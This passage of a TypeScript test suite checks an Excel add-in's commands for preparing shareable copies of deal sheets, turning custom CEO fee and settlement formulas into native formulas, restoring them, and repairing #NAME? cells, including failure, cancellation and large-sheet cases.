import assert from "assert";
import { HOLIDAYS_SHEET, holidayLists } from "../../src/core/calendar.formula";
import { blockOf, disableTrustPrompts, ORIGINALS_SHEET, planInSteps, prepareForSharing, readBlocks, repairNames, restoreFormulas, StoppedPartWay } from "../../src/taskpane/share/shareApply";
import { CommandCancelled } from "../../src/taskpane/runner";
import fs from "fs";
import path from "path";
import { applyPlan } from "../../src/taskpane/import/apply";
import { HEADERS } from "../../src/taskpane/import/placementsTable";
import { planImport } from "../../src/taskpane/import/plan";
import { SEED_TERMS, termsLayout } from "../../src/taskpane/terms/terms";
import { writeTermsSheet } from "../../src/taskpane/terms/termsApply";
import { fee, net } from "../../src/functions/fees";
import { assertAgree, engine } from "../native/agree";
import { viaWrapper } from "../support/customFunctions";
import { Engine } from "../support/hyperformula";
import { EXCEL_WEB_REQUEST_LIMIT, FakeWorkbook } from "../support/fakeExcel";
import { convertFormula, planSharing, type SheetGrid } from "../../src/taskpane/share/share";

const FEE = '=CEO.FEE(C2,D2,IF(E2="Other",0.04,""))';

/** A deal sheet as an analyst has it: inputs, CEO formulas (with the values Excel shows), a spilled row, a plain formula. */
function dealBook(): FakeWorkbook {
  const book = new FakeWorkbook();
  const deal = book.addSheet("Deal");
  deal.rows = [
    ["Trade Date", "Shares", "Gross", "Prior", "Agreement", "Fee", "Settles", "Warrants", null, "Total"],
    [37196, 50000, 202000, 0, "Sales", FEE, "=CEO.SETTLE(A2)", "=CEO.WARRANTS(B2,C2/B2)", null, "=SUM(F2:F3)"],
    [37197, 40000, 164000, 202000, "Other", FEE.replace(/2/g, "3"), "=CEO.SETTLE(A3)", "=CEO.FEE(C3,,Tiers)", null, "=J2*2"],
  ];
  deal.values = [[], [null, null, null, null, null, 8080, 37201, 5000, 5.252, 14640], [null, null, null, null, null, 6560, 37202, 123, null, 29280]];
  const notes = book.addSheet("Notes");
  notes.rows = [["No formulas here", 1, "=B1+1"]];
  return book;
}

const sheetRows = (book: FakeWorkbook, name: string) => book.sheets.get(name)!.rows;

/** The analyst deleted the original sheet and kept working in its shared copy: Restore then puts the CEO formulas back in the copy. */
const dropOriginal = (book: FakeWorkbook, name: string) => assert.ok(book.sheets.delete(name));

describe("shareApply: Prepare for sharing, Restore, Repair through the fake workbook", () => {
  it("Prepare: a copy with native formulas or values, originals on a hidden sheet, holidays, a note; the original untouched", async () => {
    const book = dealBook();
    const before = JSON.stringify(sheetRows(book, "Deal"));
    const result = await prepareForSharing(book.run, { now: new Date("2026-01-05T12:00:00Z") });
    assert.ok(result.ok, result.message);
    assert.match(result.message, /Prepared 1 shared copy: 5 CEO formulas now native, 1 kept as values/);
    assert.ok(result.details.some((d) => /"Notes" has no CEO formulas: not copied/.test(d)));
    assert.ok(result.details.some((d) => /H3: value kept \(CEO.FEE: schedule is a table column or a name/.test(d)));
    assert.strictEqual(JSON.stringify(sheetRows(book, "Deal")), before);

    const copy = sheetRows(book, "Deal (shared)");
    const cells = copy.flat().filter((v) => typeof v === "string" && v.startsWith("="));
    assert.ok(cells.every((f) => !/CEO\./.test(String(f).replace(/'CEO Holidays'/g, ""))), cells.join("\n"));
    assert.match(String(copy[1]![6]), /INDEX\('CEO Holidays'!\$G\$2:\$G\$\d+,MATCH\(INT\(--A2\),'CEO Holidays'!\$G\$2:\$G\$\d+,1\)\+/);
    assert.match(String(copy[1]![8]), /1\.3\*/); // the spilled exercise price, in the cell beside
    assert.strictEqual(copy[2]![7], 123); // the value, kept
    assert.strictEqual(copy[1]![9], "=SUM(F2:F3)"); // plain formulas stay
    assert.match(String(copy[0]![11]), /^Copy of "Deal" for sharing \(CEO add-in, 2026-01-05\): 5 CEO formulas replaced by native Excel formulas, 1 by its value\./);

    const originals = book.sheets.get(ORIGINALS_SHEET)!;
    assert.strictEqual(originals.visibility, "Hidden");
    assert.deepStrictEqual(originals.rows[0], ["Sheet", "Cell", "Formula", "Copy of"]);
    // The copy's note row names the sheet it was made from: Restore and the next Prepare know the copy by it.
    assert.deepStrictEqual(originals.rows.slice(1).filter((r) => r?.[3]).map((r) => [r[0], r[1], r[2] ?? "", r[3]]), [["Deal (shared)", "L1", "", "Deal"]]);
    // Recorded as text (the quote prefix is an attribute: values and formulas give the text alone, office-js issue 6687).
    assert.deepStrictEqual(["A2", "B2", "C2"].map((a) => book.cell(ORIGINALS_SHEET, a)), ["Deal (shared)", "F2", FEE].map((text) => ({ formula: text, value: text, isFormula: false, quotePrefix: true, numberFormat: "General" })));
    // A cell that was empty is recorded with an empty formula cell.
    assert.ok(originals.rows.some((r) => r[1] === "I2" && (r[2] ?? "") === ""));
    assert.ok(originals.rows.some((r) => r[1] === "L1" && (r[2] ?? "") === ""));
    const holidays = book.sheets.get(HOLIDAYS_SHEET)!;
    assert.deepStrictEqual(holidays.rows[0]!.slice(0, 2), ["Exchange closed (weekdays)", "Reason"]);
    assert.ok(holidays.rows.length > 1000);
  });

  it("Prepare reuses a current CEO Holidays sheet, and refuses a stale or edited one, changing nothing", async () => {
    const book = dealBook();
    assert.ok((await prepareForSharing(book.run)).ok);
    await restoreFormulas(book.run);
    assert.ok((await prepareForSharing(book.run)).ok); // a fresh sheet again
    assert.ok((await prepareForSharing(book.run, { sheets: ["Deal"] })).ok); // the current sheet, reused
    const holidays = book.sheets.get(HOLIDAYS_SHEET)!;
    holidays.rows.splice(5, 1); // an older list, one closure short
    const before = book.snapshot();
    const refused = await prepareForSharing(book.run, { sheets: ["Deal"] });
    assert.strictEqual(refused.ok, false);
    assert.match(refused.message, /"CEO Holidays" sheet differs from this version's calendar/);
    assert.deepStrictEqual(book.snapshot(), before);
  });

  it("a CEO Holidays sheet of 0.1.0 (the closures, no settlement business days) gets the days added; a Prepare that fails takes them back", async () => {
    const oldSheet = async () => {
      const book = dealBook();
      assert.ok((await prepareForSharing(book.run)).ok);
      const holidays = book.sheets.get(HOLIDAYS_SHEET)!;
      const days = holidays.rows.slice(1).map((r) => r[6]);
      assert.deepStrictEqual(days.filter((d) => d !== null && d !== undefined), holidayLists().settlementDays);
      // 0.1.0 wrote columns A to E only.
      for (const grid of [holidays.rows, holidays.numberFormats, holidays.text, holidays.quotePrefix]) for (const row of grid ?? []) row?.splice(6, 1);
      return { book, days };
    };
    const { book, days } = await oldSheet();
    assert.ok((await prepareForSharing(book.run, { sheets: ["Deal"] })).ok);
    const holidays = book.sheets.get(HOLIDAYS_SHEET)!;
    assert.strictEqual(holidays.rows[0]![6], "Settlement business days");
    assert.deepStrictEqual(holidays.rows.slice(1).map((r) => r[6]), days);
    assert.strictEqual(book.cell(HOLIDAYS_SHEET, "G2").numberFormat, "yyyy-mm-dd");

    const probe = (await oldSheet()).book;
    const setUp = probe.requests;
    assert.ok((await prepareForSharing(probe.run, { sheets: ["Deal"] })).ok);
    const requests = probe.requests - setUp;
    for (let k = 1; k <= requests; k++) {
      const { book } = await oldSheet();
      const before = book.snapshot();
      book.failAtRequest = book.requests + k;
      const outcome = await prepareForSharing(book.run, { sheets: ["Deal"] }).catch((error: Error) => error);
      if (outcome instanceof Error) {
        assert.match(outcome.message, /injected failure/);
        assert.deepStrictEqual(book.snapshot(), before, `failure at request ${k} of ${requests} left a change`);
      } else {
        // The new copy is complete; only removing the previous one failed, and the pane says so.
        assert.ok(outcome.ok && outcome.details.some((d) => /could not all be removed/.test(d)), `request ${k}: ${outcome.message}`);
      }
    }

    // A Prepare that needs no calendar writes nothing there, and one that fails leaves the old sheet's column G as the user formatted it.
    const plain = async () => {
      const { book } = await oldSheet();
      const sheet = book.addSheet("Plain");
      sheet.rows = [["Gross", "Fee"], [5_000_000, "=CEO.FEE(A2)"]];
      sheet.values = [["Gross", "Fee"], [5_000_000, 200_000]];
      book.sheets.get(HOLIDAYS_SHEET)!.numberFormats![3]![6] = "0.00"; // a blank cell of column G, formatted by hand
      return book;
    };
    const plainProbe = await plain();
    const plainSetUp = plainProbe.requests;
    assert.ok((await prepareForSharing(plainProbe.run, { sheets: ["Plain"] })).ok);
    assert.strictEqual(plainProbe.cell(HOLIDAYS_SHEET, "G4").numberFormat, "0.00");
    for (let k = 1; k <= plainProbe.requests - plainSetUp; k++) {
      const book = await plain();
      const before = book.snapshot();
      book.failAtRequest = book.requests + k;
      const outcome = await prepareForSharing(book.run, { sheets: ["Plain"] }).catch((error: Error) => error);
      if (outcome instanceof Error) assert.deepStrictEqual(book.snapshot(), before, `failure at request ${k} left a change`);
    }
  });

  it("Restore removes the copies it made and the add-in's sheets, and names them: the workbook is as before Prepare", async () => {
    const book = dealBook();
    await prepareForSharing(book.run);
    const result = await restoreFormulas(book.run);
    assert.deepStrictEqual(result, {
      ok: true,
      message: 'Removed the shared copy "Deal (shared)" and the add-in\'s sheets "CEO Originals" and "CEO Holidays". The original sheet "Deal" keeps its CEO formulas.',
      details: [],
    });
    assert.deepStrictEqual(book.snapshot(), dealBook().snapshot());
    assert.match((await restoreFormulas(book.run)).message, /nothing to restore/);
  });

  it("Restore, the original sheet deleted since: the copy gets back exactly the formulas it had, and is kept", async () => {
    const book = dealBook();
    await prepareForSharing(book.run);
    dropOriginal(book, "Deal");
    const result = await restoreFormulas(book.run);
    assert.ok(result.ok, result.message);
    assert.strictEqual(result.message, 'Restored 8 cells on 1 sheet: the CEO formulas are back in "Deal (shared)", kept because its original sheet "Deal" is no longer in the workbook. Removed the add-in\'s sheets "CEO Originals" and "CEO Holidays".');
    const expected = dealBook().snapshot() as { sheets: { name: string; rows: unknown[] }[] };
    const now = book.snapshot() as { sheets: { name: string; rows: unknown[] }[] };
    assert.deepStrictEqual(now.sheets.find((s) => s.name === "Deal (shared)")!.rows, expected.sheets.find((s) => s.name === "Deal")!.rows);
    assert.ok(!book.sheets.has(ORIGINALS_SHEET) && !book.sheets.has(HOLIDAYS_SHEET));
    assert.match((await restoreFormulas(book.run)).message, /nothing to restore/);
  });

  it("a sheet whose name Excel would read as a formula (+Deal) is recorded as text, and Restore finds it", async () => {
    const book = dealBook();
    const deal = book.sheets.get("Deal")!;
    book.sheets.delete("Deal");
    deal.name = "+Deal";
    book.sheets.set("+Deal", deal);
    await prepareForSharing(book.run, { sheets: ["+Deal"] });
    assert.deepStrictEqual(book.cell(ORIGINALS_SHEET, "A2"), { formula: "+Deal (shared)", value: "+Deal (shared)", isFormula: false, quotePrefix: true, numberFormat: "General" });
    const result = await restoreFormulas(book.run);
    assert.match(result.message, /^Removed the shared copy "\+Deal \(shared\)" /);
    assert.ok(!book.sheets.has("+Deal (shared)"));
    // And with "+Deal" gone, its formulas go back into the copy.
    await prepareForSharing(book.run, { sheets: ["+Deal"] });
    dropOriginal(book, "+Deal");
    assert.match((await restoreFormulas(book.run)).message, /Restored 8 cells on 1 sheet/);
    assert.strictEqual(book.sheets.get("+Deal (shared)")!.rows[1]![5], FEE);
  });

  it("Prepare twice: the second replaces the first's copies, under the same names, with their records; Restore then removes them", async () => {
    const book = dealBook();
    const first = await prepareForSharing(book.run, { sheets: ["Deal"] });
    assert.ok(first.ok, first.message);
    // The deal moves on: a new sale's fee, and the copy must show it.
    book.sheets.get("Deal")!.rows[2]![2] = 200_000;
    const second = await prepareForSharing(book.run);
    assert.ok(second.ok, second.message);
    assert.deepStrictEqual([...book.sheets.keys()], ["Deal", "Notes", HOLIDAYS_SHEET, "Deal (shared)", ORIGINALS_SHEET]);
    assert.strictEqual(book.cell("Deal (shared)", "C3").formula, 200_000);
    assert.ok(second.details.includes('Replaced the copy made by the previous Prepare: "Deal (shared)".'), second.details.join("\n"));
    // Only the second's records: 8 cells and the note, once.
    const rows = book.sheets.get(ORIGINALS_SHEET)!.rows.filter((r) => r?.[0]);
    assert.strictEqual(rows.length, 1 + 8);
    assert.strictEqual(book.sheets.get(ORIGINALS_SHEET)!.visibility, "Hidden");
    const restored = await restoreFormulas(book.run);
    assert.match(restored.message, /^Removed the shared copy "Deal \(shared\)" and the add-in's sheets "CEO Originals" and "CEO Holidays"\./);
    assert.deepStrictEqual([...book.sheets.keys()], ["Deal", "Notes"]);
  });

  it("the message says exactly what to send: the copies and the holidays list, moved to a book of their own", async () => {
    const result = await prepareForSharing(dealBook().run);
    assert.strictEqual(
      result.message,
      'Prepared 1 shared copy: 5 CEO formulas now native, 1 kept as values. Send "Deal (shared)" and "CEO Holidays" in a workbook of their own: select those tabs (Ctrl+click; Cmd+click on a Mac), right-click one > Move or Copy > To book: (new book), tick Create a copy, OK, then save and send the new workbook. Not this one: its original sheets show #NAME? without the add-in.',
    );
    // Without calendar formulas there is no holidays sheet to send.
    const book = new FakeWorkbook();
    const deal = book.addSheet("Deal");
    deal.rows = [[25_000_000, "=CEO.FEE(A1)"]];
    deal.values = [[25_000_000, 900_000]];
    assert.match((await prepareForSharing(book.run)).message, /now native\. Send "Deal \(shared\)" in a workbook of its own: select that tab, right-click it > Move or Copy > To book: \(new book\), tick Create a copy, OK, then save and send the new workbook\./);
  });

  it("Prepare twice with Terms: both copies replaced, also when the second prepares only Deal", async () => {
    const book = termsDealBook();
    assert.ok((await prepareForSharing(book.run)).ok);
    const second = await prepareForSharing(book.run, { sheets: ["Deal"] });
    assert.ok(second.ok, second.message);
    assert.ok(second.details.includes('Replaced the copies made by the previous Prepare: "Terms (shared)", "Deal (shared)".'), second.details.join("\n"));
    assert.deepStrictEqual([...book.sheets.keys()].sort(), ["CEO Originals", "Deal", "Deal (shared)", "Terms"]);
  });

  it("Prepare refuses a previous copy chosen as the sheet to share, and a previous copy whose original is gone; nothing changed", async () => {
    const book = dealBook();
    await prepareForSharing(book.run);
    const before = book.snapshot();
    const copyChosen = await prepareForSharing(book.run, { sheets: ["Deal (shared)"] });
    assert.deepStrictEqual([copyChosen.ok, copyChosen.message], [false, '"Deal (shared)" is the shared copy of "Deal" made by an earlier Prepare: prepare "Deal" (its new copy replaces this one). Nothing was changed.']);
    assert.deepStrictEqual(book.snapshot(), before);
    dropOriginal(book, "Deal");
    const orphan = await prepareForSharing(book.run);
    assert.strictEqual(orphan.ok, false);
    assert.strictEqual(orphan.message, '"Deal (shared)" is a shared copy of "Deal", which is no longer in the workbook: Prepare would replace it and lose it. Restore formulas first (it puts the CEO formulas back in "Deal (shared)" and keeps it), then prepare again. Nothing was changed.');
  });

  it("records of an earlier version (no Copy of column): the copies are known by their names", async () => {
    const book = dealBook();
    await prepareForSharing(book.run);
    const originals = book.sheets.get(ORIGINALS_SHEET)!;
    originals.rows = originals.rows.map((r) => r?.slice(0, 3));
    const second = await prepareForSharing(book.run);
    assert.ok(second.ok && !book.sheets.has("Deal (shared 2)"), second.message);
    originals.rows = book.sheets.get(ORIGINALS_SHEET)!.rows.map((r) => r?.slice(0, 3));
    assert.match((await restoreFormulas(book.run)).message, /^Removed the shared copy "Deal \(shared\)"/);
  });

  it("progress between requests, from 0 to the end; a cancel at any point undoes everything (first and second Prepare)", async () => {
    for (const second of [false, true]) {
      const setUp = async () => {
        const book = termsDealBook();
        book.sheets.get("Deal")!.rows.push(...Array.from({ length: 40 }, (_, i) => [null, null, null, 1_000 * i, `=CEO.FEE(D${i + 3},,Sales_Schedule)`]));
        if (second) await prepareForSharing(book.run);
        return book;
      };
      const probe = await setUp();
      const reports: [number, number, string][] = [];
      assert.ok((await prepareForSharing(probe.run, { chunkBytes: 2000, onProgress: (done, total, step) => reports.push([done, total, step]) })).ok);
      assert.ok(reports.length >= 6, `${reports.length} reports`);
      assert.deepStrictEqual(reports.at(-1)!.slice(0, 2), [1000, 1000]);
      assert.ok(reports.every(([done], i) => i === 0 || done >= reports[i - 1]![0]), "never backwards");
      assert.deepStrictEqual([...new Set(reports.map((r) => r[2]))], ["Reading the sheets", "Copying the sheets", "Converting the CEO formulas", "Recording the original formulas", "Writing the copies"]);
      // After the last report the copies are done: there is nothing left to cancel.
      for (let k = 1; k < reports.length; k++) {
        const book = await setUp();
        const before = book.snapshot();
        let reported = 0;
        await assert.rejects(
          prepareForSharing(book.run, { chunkBytes: 2000, onProgress: () => reported++, isCancelled: () => reported >= k }),
          (error) => error instanceof CommandCancelled && error.message === "Cancelled: nothing was changed.",
          `cancel after report ${k}`,
        );
        assert.deepStrictEqual(book.snapshot(), before, `a cancel after report ${k} of ${reports.length} left a change`);
      }
    }
  });

  it("planning in steps (rows at a time, yielding between) gives the plan of one step", async () => {
    const grids: SheetGrid[] = [
      { name: "Deal", copy: "Deal (shared)", address: "B3:K5", formulas: sheetRows(dealBook(), "Deal"), values: dealBook().sheets.get("Deal")!.values! },
      { name: "Terms", copy: "Terms (shared)", address: "A1:B2", formulas: [["=Deal!B3", "=CEO.FEE(A1)"], [1, "=CEO.SETTLE(A2)"]], values: [[1, 2], [1, 3]] },
    ];
    const whole = planSharing(grids, ["Deal", "Terms", "Other"]);
    for (const rows of [1, 2, 5]) {
      const steps: number[] = [];
      const inSteps = await planInSteps(grids, ["Deal", "Terms", "Other"], [], new Map(), { rowsPerStep: rows, onStep: (done) => steps.push(done) });
      assert.deepStrictEqual(inSteps, whole, `${rows} rows a step`);
      assert.deepStrictEqual(steps.at(-1), 5);
    }
  });

  it("bad input: no CEO formulas, a protected sheet, a missing sheet: a message, nothing changed", async () => {
    const book = dealBook();
    const before = book.snapshot();
    const none = await prepareForSharing(book.run, { sheets: ["Notes"] });
    assert.deepStrictEqual([none.ok, none.message], [false, 'No CEO formulas on "Notes": nothing to prepare, nothing was changed.']);
    book.sheets.get("Deal")!.protected = true;
    const locked = await prepareForSharing(book.run);
    assert.match(locked.message, /Protected sheet "Deal": unprotect first/);
    assert.match((await prepareForSharing(book.run, { sheets: ["Nope"] })).message, /No sheet named "Nope"/);
    book.sheets.get("Deal")!.protected = false;
    assert.deepStrictEqual(book.snapshot(), before);
  });

  it("a failure at any request of Prepare leaves the workbook as it was (first Prepare, and with originals already there)", async () => {
    for (const second of [false, true]) {
      const setUp = async () => {
        const book = dealBook();
        if (second) await prepareForSharing(book.run, { sheets: ["Deal"] });
        book.requests = 0;
        return book;
      };
      const probe = await setUp();
      await prepareForSharing(probe.run, { chunkBytes: 2000 });
      const total = probe.requests;
      assert.ok(total >= 6, `only ${total} requests`);
      // The second Prepare's last request deletes the first's copies, once the new ones are done.
      const last = second ? total - 1 : total;
      for (let k = 1; k <= last; k++) {
        const book = await setUp();
        const before = book.snapshot();
        book.failAtRequest = k;
        await assert.rejects(prepareForSharing(book.run, { chunkBytes: 2000 }), /injected failure/);
        assert.deepStrictEqual(book.snapshot(), before, `failure at request ${k} of ${total} left a change`);
      }
      if (second) {
        // That request failing half-way: the new copies stand, and the sheet left over is named.
        const book = await setUp();
        book.failAtRequest = total;
        const result = await prepareForSharing(book.run, { chunkBytes: 2000 });
        assert.ok(result.ok, result.message);
        assert.ok(book.sheets.has("Deal (shared)") && book.sheets.has(ORIGINALS_SHEET) && !book.sheets.has("Deal (shared) (old)"));
        assert.strictEqual(
          result.details.at(-1),
          'The previous copies could not all be removed (injected failure at request ' + total + '): delete "CEO Originals (old)" by hand (right-click the tab > Delete; a hidden sheet: right-click any tab > Unhide first). The new copies are complete.',
        );
      }
    }
  });

  it("a failure at any request of Restore leaves the workbook as it was, but for removing the copies: then it says what remains, and Restore again finishes", async () => {
    const setUp = async () => {
      const book = dealBook();
      await prepareForSharing(book.run);
      book.requests = 0;
      return book;
    };
    const probe = await setUp();
    await restoreFormulas(probe.run, { chunkBytes: 300 });
    const total = probe.requests;
    // The next to last request removes the copies, then the records; the last, the holidays list.
    for (let k = 1; k < total - 1; k++) {
      const book = await setUp();
      const before = book.snapshot();
      book.failAtRequest = k;
      await assert.rejects(restoreFormulas(book.run, { chunkBytes: 300 }), /injected failure/);
      assert.deepStrictEqual(book.snapshot(), before, `failure at request ${k} of ${total} left a change`);
    }
    const book = await setUp();
    book.failAtRequest = total - 1; // the fake applies the first half of the request: the copy goes, the records stay
    await assert.rejects(restoreFormulas(book.run, { chunkBytes: 300 }), (error) => {
      assert.ok(error instanceof StoppedPartWay);
      assert.strictEqual(error.message, 'Restore stopped (injected failure at request 4) after removing "Deal (shared)"; the "CEO Originals" sheet remains: Restore formulas again to finish.');
      return true;
    });
    assert.ok(!book.sheets.has("Deal (shared)") && book.sheets.has(ORIGINALS_SHEET));
    const again = await restoreFormulas(book.run);
    assert.strictEqual(again.message, 'Removed the add-in\'s sheets "CEO Originals" and "CEO Holidays"; the shared copies were removed before.');
    assert.deepStrictEqual(book.snapshot(), dealBook().snapshot());
  });

  it("a failure at any request of Restore, the original deleted, leaves the workbook as it was", async () => {
    const setUp = async () => {
      const book = dealBook();
      await prepareForSharing(book.run);
      dropOriginal(book, "Deal");
      book.requests = 0;
      return book;
    };
    const probe = await setUp();
    await restoreFormulas(probe.run, { chunkBytes: 300 });
    const total = probe.requests;
    for (let k = 1; k < total; k++) {
      const book = await setUp();
      const before = book.snapshot();
      book.failAtRequest = k;
      await assert.rejects(restoreFormulas(book.run, { chunkBytes: 300 }), /injected failure/);
      assert.deepStrictEqual(book.snapshot(), before, `failure at request ${k} of ${total} left a change`);
    }
    // The last request only tidies up the holidays sheet once the formulas are back.
    const book = await setUp();
    book.failAtRequest = total;
    const result = await restoreFormulas(book.run, { chunkBytes: 300 });
    assert.ok(result.ok && /could not be removed/.test(result.details.join()));
    assert.ok(book.sheets.has(HOLIDAYS_SHEET) && !book.sheets.has(ORIGINALS_SHEET));
  });

  it("Restore: progress, and a cancel before the copies are removed undoes what it wrote", async () => {
    const setUp = async () => {
      const book = dealBook();
      await prepareForSharing(book.run);
      dropOriginal(book, "Deal");
      return book;
    };
    const probe = await setUp();
    const reports: [number, number, string][] = [];
    assert.ok((await restoreFormulas(probe.run, { chunkBytes: 300, onProgress: (done, total, step) => reports.push([done, total, step]) })).ok);
    assert.deepStrictEqual([...new Set(reports.map((r) => r[2]))], ["Reading the records", "Putting the formulas back", "Removing the add-in's sheets"]);
    assert.deepStrictEqual(reports.at(-1)!.slice(0, 2), [1000, 1000]);
    for (let k = 1; k < reports.length - 1; k++) {
      const book = await setUp();
      const before = book.snapshot();
      let reported = 0;
      await assert.rejects(restoreFormulas(book.run, { chunkBytes: 300, onProgress: () => reported++, isCancelled: () => reported >= k }), CommandCancelled, `cancel after report ${k}`);
      assert.deepStrictEqual(book.snapshot(), before, `a cancel after report ${k} of ${reports.length} left a change`);
    }
  });

  it("Repair re-enters exactly the CEO formulas that show #NAME?", async () => {
    const book = dealBook();
    const deal = book.sheets.get("Deal")!;
    deal.values![1]![5] = "#NAME?";
    deal.values![2]![6] = "#NAME?";
    deal.values![2]![9] = "#NAME?"; // a plain formula showing #NAME?: not the add-in's
    const result = await repairNames(book.run);
    assert.deepStrictEqual([result.ok, result.message], [true, "Re-entered 2 CEO formulas that showed #NAME?."]);
    assert.deepStrictEqual(result.details, ['"Deal": F2, G3']);
    assert.deepStrictEqual([deal.values![1]![5], deal.values![2]![6], deal.values![2]![9]], [undefined, undefined, "#NAME?"]);
    assert.strictEqual(deal.rows[1]![5], FEE);
    assert.match((await repairNames(book.run)).message, /nothing to repair/);
  });

  it("a sheet of 300,000 cells (13 MB as one read) is read in row blocks, every response under 5 MB; Prepare, Repair and Restore give the same", async function () {
    this.timeout(300_000); // about 10 s alone; several times that on a loaded 2-core machine
    const book = new FakeWorkbook();
    const big = book.addSheet("Big");
    const note = (r: number, c: number) => `note ${r}-${c} `.padEnd(30, ".");
    const fee = (r: number) => `=CEO.FEE(C${r},D${r},IF(E${r}="Other",0.04,""))`;
    const ROWS = 30_000;
    big.rows = Array.from({ length: ROWS }, (_, i) => [37196, 50000, 202000, 0, "Sales", fee(i + 1), ...Array.from({ length: 4 }, (_, c) => note(i, c))]);
    big.values = big.rows.map((row) => row.map((v, c) => (c === 5 ? 8080 : v)));
    const original = JSON.stringify(big.rows);
    const cells = ROWS * 10;
    assert.ok(JSON.stringify(big.rows).length * 2 > 2 * EXCEL_WEB_REQUEST_LIMIT, "a one-request read of formulas and values would be refused");

    const result = await prepareForSharing(book.run, { now: new Date("2026-01-05T12:00:00Z") });
    assert.ok(result.ok, result.message);
    assert.match(result.message, /30,000 CEO formulas now native/);
    const reads = book.responseBytes.filter((b) => b > 0);
    assert.ok(reads.length >= 2 * Math.ceil((cells * 60) / EXCEL_WEB_REQUEST_LIMIT), `${reads.length} reads`);
    assert.ok(Math.max(...book.responseBytes) < EXCEL_WEB_REQUEST_LIMIT, `largest response ${Math.max(...book.responseBytes)}`);
    assert.ok(Math.max(...book.requestBytes) < EXCEL_WEB_REQUEST_LIMIT);
    // Every cell of the copy read: each fee native, everything else as it was.
    const copy = sheetRows(book, "Big (shared)");
    assert.strictEqual(copy.length, ROWS);
    copy.forEach((row, i) => {
      assert.strictEqual(row[5], (convertFormula(fee(i + 1)) as { formula: string }).formula, `F${i + 1}`);
      assert.deepStrictEqual([...row.slice(0, 5), ...row.slice(6, 10)], [...big.rows[i]!.slice(0, 5), ...big.rows[i]!.slice(6)], `row ${i + 1}`);
    });
    assert.strictEqual(book.sheets.get(ORIGINALS_SHEET)!.rows.filter((r) => r?.[0] === "Big (shared)").length, ROWS + 1); // the fees and the note

    // Repair reads the whole workbook too: the #NAME? cells are found wherever the blocks split.
    for (const r of [0, 9_999, 10_000, 29_999]) big.values![r]![5] = "#NAME?";
    book.responseBytes = [];
    const repaired = await repairNames(book.run);
    assert.strictEqual(repaired.message, "Re-entered 4 CEO formulas that showed #NAME?.");
    assert.deepStrictEqual(repaired.details, ['"Big": F1, F10000, F10001, F30000']);
    assert.ok(book.responseBytes.filter((b) => b > 0).length > 2 && Math.max(...book.responseBytes) < EXCEL_WEB_REQUEST_LIMIT);

    book.responseBytes = [];
    dropOriginal(book, "Big"); // so that Restore writes every formula back into the copy
    const restored = await restoreFormulas(book.run);
    assert.ok(restored.ok, restored.message);
    assert.match(restored.message, /^Restored 30,001 cells on 1 sheet: the CEO formulas are back in "Big \(shared\)"/);
    // The note cell (L1) is emptied again; every other cell holds its CEO formula or value as before.
    assert.deepStrictEqual([...sheetRows(book, "Big (shared)")[0]!.slice(10)].map((v) => v ?? ""), ["", ""]);
    assert.ok(JSON.stringify(sheetRows(book, "Big (shared)").map((row) => row.slice(0, 10))) === original, "the copy is as before Prepare");
    assert.ok(JSON.stringify(big.rows) === original, "the original untouched");
    assert.ok(Math.max(...book.responseBytes) < EXCEL_WEB_REQUEST_LIMIT);
  });

  it("readBlocks: a response Excel refuses as too large is read again in smaller blocks; the cells are the same", async () => {
    const book = new FakeWorkbook();
    const wide = book.addSheet("Wide");
    wide.rows = Array.from({ length: 3_000 }, (_, r) => Array.from({ length: 5 }, (_, c) => `${r},${c}:`.padEnd(2_000, "x")));
    const grids = await book.run((context) => readBlocks(context, [blockOf("Wide", "Wide!A1:E3000"), blockOf("Wide", "B3:C4")], ["values"]));
    assert.deepStrictEqual(grids[0]!.values, wide.rows);
    assert.deepStrictEqual(grids[1]!.values, [wide.rows[2]!.slice(1, 3), wide.rows[3]!.slice(1, 3)]);
    assert.ok(book.responseBytes.some((b) => b > EXCEL_WEB_REQUEST_LIMIT), "the first read was refused");
    assert.ok(book.responseBytes.filter((b) => b > 0 && b <= EXCEL_WEB_REQUEST_LIMIT).length >= 5);
  });

  it("Office.DisableTrustUX is set and saved in the document's settings where Office has them", async () => {
    const saved: Record<string, unknown> = {};
    const office = { context: { document: { settings: { set: (k: string, v: unknown) => (saved[k] = v), saveAsync: (cb: (r: { status: string }) => void) => cb({ status: "succeeded" }) } } } };
    assert.strictEqual(await disableTrustPrompts(office as any), true);
    assert.deepStrictEqual(saved, { "Office.DisableTrustUX": true });
    assert.strictEqual(await disableTrustPrompts(undefined), false);
  });

  it("a Placements table reading the Terms sheet's names: Fee and Net become native formulas that agree with the core", async () => {
    const book = new FakeWorkbook();
    const statement = planImport(fs.readFileSync(path.resolve(__dirname, "../../examples/neot-2001-agent-statement.csv"), "utf8"));
    await writeTermsSheet(book.run, SEED_TERMS);
    await applyPlan(book.run, statement.rows, { terms: SEED_TERMS });
    const result = await prepareForSharing(book.run, { sheets: ["Placements"] });
    assert.ok(result.ok, result.message);
    const copy = sheetRows(book, "Placements (shared)");
    const table = book.tableValues("Placements");
    const [feeAt, netAt, grossAt, agreementAt] = ["Fee", "Net", "Gross", "Agreement"].map((h) => HEADERS.indexOf(h)) as [number, number, number, number];
    // The Terms sheet in the engine, as writeTermsSheet lays it out.
    const e = engine();
    const hf = e.hf;
    if (!hf.doesSheetExist("Terms")) hf.addSheet("Terms");
    const terms = hf.getSheetId("Terms")!;
    hf.setSheetContent(terms, termsLayout(SEED_TERMS).cells as any);
    const schedules = Object.fromEntries(SEED_TERMS.agreements.map((a) => [a.name, a.tiers.map((t) => [t.from, t.rate])]));
    let prior: Record<string, number> = {};
    for (let r = 1; r <= table.length; r++) {
      const row = copy[r]!;
      for (const at of [feeAt, netAt]) {
        assert.ok(typeof row[at] === "string" && /^=IF\(/.test(row[at] as string) && !/CEO\.|_Schedule/.test(row[at] as string), `row ${r}: ${String(row[at])}`);
      }
      if (r > 12) continue; // a few rows through the engine
      const gross = table[r - 1]![grossAt] as number;
      const agreement = String(table[r - 1]![agreementAt]);
      const before = prior[agreement] ?? 0;
      prior = { ...prior, [agreement]: before + gross };
      // The structured references of the row, as cells of the Inputs sheet (Net reads the row's Fee: D1).
      const cells = (f: string) => f.replace(/\[@Gross\]/g, "A1").replace(/\[@\[Prior Gross\]\]/g, "B1").replace(/\[@Agreement\]/g, "C1").replace(/\[@\[Fee\]\]/g, "D1");
      e.clear();
      e.set(0, 0, [[gross, before, agreement, cells(row[feeAt] as string)]]);
      assertAgree(`Fee row ${r}`, e.evaluate("=D1"), viaWrapper(() => fee(gross, before, schedules[agreement] as any)), "exact");
